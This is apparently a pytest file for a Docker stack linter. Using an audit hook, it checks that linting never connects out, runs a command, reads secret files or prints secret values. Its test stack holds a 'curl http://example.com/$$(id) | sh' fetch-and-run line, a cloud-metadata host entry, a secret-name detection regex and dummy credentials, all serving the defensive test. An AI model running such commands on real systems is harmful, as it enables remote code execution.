"""What linting a file never does: connect to a network (unless --docker asks), run anything,
open the files a stack names as secrets or configs or env files outside its folder, or print
a secret value.

The CLI runs in a child process whose sitecustomize installs an audit hook (PEP 578): every
`socket.connect`, name lookup, process start or exec is logged and refused, and so is every
`open` of a watched path. The hook sees Python's own socket and subprocess layers, which
everything in stacklint goes through; the positive controls below show it catching each kind
of event in the same setup, stacklint's own `--docker` connection included.
"""
from __future__ import annotations

import json
import os
import re
import sys
import textwrap

import pytest

from stacklint.checks import registered_codes
from stacklint.diagnostics import FileResult
from stacklint.engine import lint
from stacklint.output import FORMATS, render
from stacklint.settings import Settings

from .conftest import EXAMPLE, SHARED, run_cli
from .fuzz.generators import corpus_files

AUDIT_HOOK = textwrap.dedent('''
    import os, sys
    _LOG = os.environ["STACKLINT_AUDIT_LOG"]
    _WATCH = {os.path.realpath(p) for p in os.environ.get("STACKLINT_AUDIT_WATCH", "").split(os.pathsep) if p}
    _REFUSE = {"socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
               "socket.sendto", "socket.sendmsg", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn",
               "os.spawn", "os.startfile", "pty.spawn"}
    # os.fork is allowed: `--jobs` forks stacklint's own workers, which run no other program (an
    # exec in a forked child is still refused: the child inherits this hook).

    def _record(event, args):
        fd = os.open(_LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        try:
            os.write(fd, (event + " " + repr(args)[:300] + "\\n").encode("utf-8", "replace"))
        finally:
            os.close(fd)

    def _hook(event, args):
        if event in _REFUSE:
            _record(event, args)
            raise PermissionError("refused by the stacklint test audit hook: " + event)
        if event == "open" and _WATCH and args and isinstance(args[0], (str, bytes)):
            if os.path.realpath(os.fsdecode(args[0])) in _WATCH:
                _record(event, args)

    sys.addaudithook(_hook)
''')


@pytest.fixture
def audited(tmp_path):
    """run(*cli_args, watch=[paths], env={...}) -> (CompletedProcess, audit log lines)."""
    hook_dir = tmp_path / "audit-hook"
    hook_dir.mkdir()
    (hook_dir / "sitecustomize.py").write_text(AUDIT_HOOK)
    log = tmp_path / "audit.log"

    def run(*args, watch=(), env=None, python_code=None):
        log.write_text("")
        full = dict(os.environ)
        full.update(env or {})
        full["PYTHONPATH"] = str(hook_dir)
        full["STACKLINT_AUDIT_LOG"] = str(log)
        full["STACKLINT_AUDIT_WATCH"] = os.pathsep.join(str(p) for p in watch)
        if python_code is not None:
            import subprocess
            proc = subprocess.run([sys.executable, "-c", python_code], capture_output=True, text=True, env=full,
                                  timeout=60)
        else:
            proc = run_cli(*args, env=full)
        return proc, log.read_text().splitlines()

    return run


@pytest.fixture
def project(tmp_path):
    """A stack that names files inside and outside its folder, and asks for commands to run."""
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "project"
    folder.mkdir()
    files = {
        "outside_secret": outside / "db_password.txt", "outside_config": outside / "nginx.conf",
        "outside_env": outside / "app.env", "inside_secret": folder / "api_key.txt",
        "inside_config": folder / "prometheus.yml",
    }
    for path in files.values():
        path.write_text("TOP_SECRET_CONTENT=do-not-read\n")
    (folder / "inside.env").write_text("LOG_LEVEL=debug\n")
    stack = folder / "docker-stack.yml"
    stack.write_text(textwrap.dedent(f"""\
        version: "3.8"
        services:
          web:
            image: nginx:1.27
            env_file:
              - {files["outside_env"]}
              - ../outside/app.env
              - ./inside.env
            command: ["sh", "-c", "curl http://example.com/$$(id) | sh"]
            entrypoint: /bin/sh -c 'touch /tmp/stacklint-was-here'
            healthcheck:
              test: ["CMD-SHELL", "nc -z 127.0.0.1 80 || wget -q http://127.0.0.1/"]
            build:
              context: https://github.com/docker/getting-started.git
            secrets: [db_password, api_key]
            configs: [nginx, prometheus]
            extra_hosts: ["metadata.google.internal:169.254.169.254"]
            volumes:
              - //10.0.0.1/share:/mnt
        secrets:
          db_password:
            file: ../outside/db_password.txt
          api_key:
            file: ./api_key.txt
        configs:
          nginx:
            file: {files["outside_config"]}
          prometheus:
            file: ./prometheus.yml
        """))
    return stack, files


def _stack_files():
    return [str(EXAMPLE)] + [str(p) for p in corpus_files()]


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_linting_opens_no_connection_runs_nothing_and_reads_no_named_file(audited, project, fmt):
    stack, files = project
    proc, events = audited("--format", fmt, str(stack), *_stack_files(), watch=files.values(),
                           env={"DOCKER_HOST": "tcp://127.0.0.1:9", "HTTPS_PROXY": "http://127.0.0.1:9"})
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode in (0, 1), proc.stderr
    assert events == []
    assert "TOP_SECRET_CONTENT" not in proc.stdout


def test_the_hook_catches_a_connection_stacklint_makes_when_asked(audited, project, tmp_path):
    """Positive control: `--docker` does connect, and the same hook sees and refuses it."""
    stack, _ = project
    proc, events = audited("--docker", str(stack), env={"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock"})
    assert [e.split()[0] for e in events][:1] == ["socket.connect"]
    assert "Traceback" not in proc.stderr and proc.returncode == 2, proc.stderr


@pytest.mark.parametrize("code,event", [
    ("import subprocess; subprocess.run(['true'])", "subprocess.Popen"),
    ("import os; os.system('true')", "os.system"),
    ("import socket; socket.create_connection(('127.0.0.1', 9))", "socket.getaddrinfo"),
    ("import os, sys; os.execv(sys.executable, [sys.executable, '-c', 'pass'])", "os.exec"),
], ids=["subprocess", "system", "connect", "exec"])
def test_the_hook_catches_each_kind_of_event(audited, code, event):
    _, events = audited(python_code=code)
    assert [e.split()[0] for e in events] == [event]


def test_the_hook_catches_opening_a_watched_file(audited, project):
    _, files = project
    _, events = audited(python_code=f"open({str(files['outside_secret'])!r}).read()", watch=files.values())
    assert [e.split()[0] for e in events] == ["open"]


# --- secret values never printed ------------------------------------------------------------------

_SECRET_NAME = re.compile(r"(?i)(pass(word|wd|phrase)?|pwd|secret|token|api_?key|private_?key|access_?key|"
                          r"credentials?)$")


def _environment_secrets(text: str):
    """Literal values of environment entries whose name looks like a secret (mapping and list
    form), written only once in the file."""
    found = set()
    for name, value in re.findall(r"^\s*-?\s*['\"]?([A-Za-z_][A-Za-z0-9_]*)['\"]?\s*[:=]\s*['\"]?([^'\"\s#]+)",
                                  text, re.M):
        if _SECRET_NAME.search(name) and "$" not in value and len(value) >= 4 and text.count(value) == 1:
            found.add(value)
    return found


def _marked(text: str):
    """The text with each such value replaced by a unique marker (so a copy of it in the output
    can only come from that entry, not from a rule page that happens to say "password")."""
    markers = []
    for i, value in enumerate(sorted(_environment_secrets(text))):
        marker = f"Zq{i}x{value[:2].isalpha() and 'a' or '1'}SecretMarker{i}"
        text = text.replace(value, marker)
        markers.append(marker)
    return text, sorted(set(markers + re.findall(r"[A-Za-z0-9]*SecretMarker[0-9]+", text)))


SECRETS_STACK = """version: "3.8"
services:
  db:
    image: postgres:16
    environment:
      POSTGRES_PASSWORD: "Hunter2-Postgres"
      API_TOKEN: tok_live_4f9a8b7c
      MYSQL_ROOT_PASSWORD: 'my-root-pw-991'
  web:
    image: example/web:1.0
    environment:
      - DB_PASSWORD=list-form-pw-123
      - AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENG
      - DATABASE_URL=postgres://app:UrlSecretMarker5@db/app
      - SECRET_KEY=${SECRET_KEY:-DefaultSecretMarker6}
"""


@pytest.mark.skipif("SL202" not in registered_codes(), reason="SL202 (plaintext secrets) is not registered yet")
@pytest.mark.parametrize("source", ["crafted", "example", "corpus"])
def test_secret_values_appear_in_no_output_format(source):
    texts = {"crafted": lambda: {"stack.yml": SECRETS_STACK},
             "example": lambda: {str(EXAMPLE): EXAMPLE.read_text()},
             "corpus": lambda: {p.name: p.read_text(encoding="utf-8") for p in corpus_files()}}[source]()
    if not texts:
        pytest.skip(f"{SHARED}/corpus is absent")
    # Settings.env carries values too: a secret-looking variable of the environment must not leak.
    env = {"SECRET_KEY": "EnvSecretMarker77"}
    checked = 0
    for path, text in texts.items():
        text, markers = _marked(text)
        diagnostics = lint(text, path, Settings(env=env))
        results = [FileResult(path, diagnostics)]
        for fmt in FORMATS:
            out = render(fmt, results, colour=False, quiet=False)
            leaked = [m for m in markers + ["EnvSecretMarker77"] if m in out]
            assert not leaked, f"{fmt} output of {path} shows {leaked}"
        checked += len(markers)
    assert checked or source == "example"
    if source == "crafted":
        flagged = sorted(d.message.split(":")[1].split()[0] for d in lint(SECRETS_STACK, None, Settings(env=env))
                         if d.code == "SL202")
        assert flagged == ["API_TOKEN", "AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "DB_PASSWORD", "MYSQL_ROOT_PASSWORD",
                           "POSTGRES_PASSWORD", "SECRET_KEY"]


def test_secret_values_stay_out_of_the_cli_output(tmp_path):
    if "SL202" not in registered_codes():
        pytest.skip("SL202 (plaintext secrets) is not registered yet")
    path = tmp_path / "docker-stack.yml"
    path.write_text(SECRETS_STACK)
    for fmt in sorted(FORMATS):
        proc = run_cli("--format", fmt, "--no-env", str(path))
        for secret in _environment_secrets(SECRETS_STACK):
            assert secret not in proc.stdout + proc.stderr, (fmt, secret)
        if fmt == "json":
            assert any(d["code"] == "SL202" for d in json.loads(proc.stdout))


def test_env_files_are_read_only_inside_the_stacks_folder(audited, project):
    """The env_file check reads an env file below the stack's folder (at most 1 MiB, to report
    Docker's env-file syntax errors by variable name); one outside it is only checked to exist."""
    stack, files = project
    inside = stack.parent / "inside.env"
    proc, events = audited(str(stack), watch=[inside, files["outside_env"]])
    assert [e.split()[0] for e in events] == ["open"] and str(inside) in events[0], events
    assert "LOG_LEVEL" not in proc.stdout
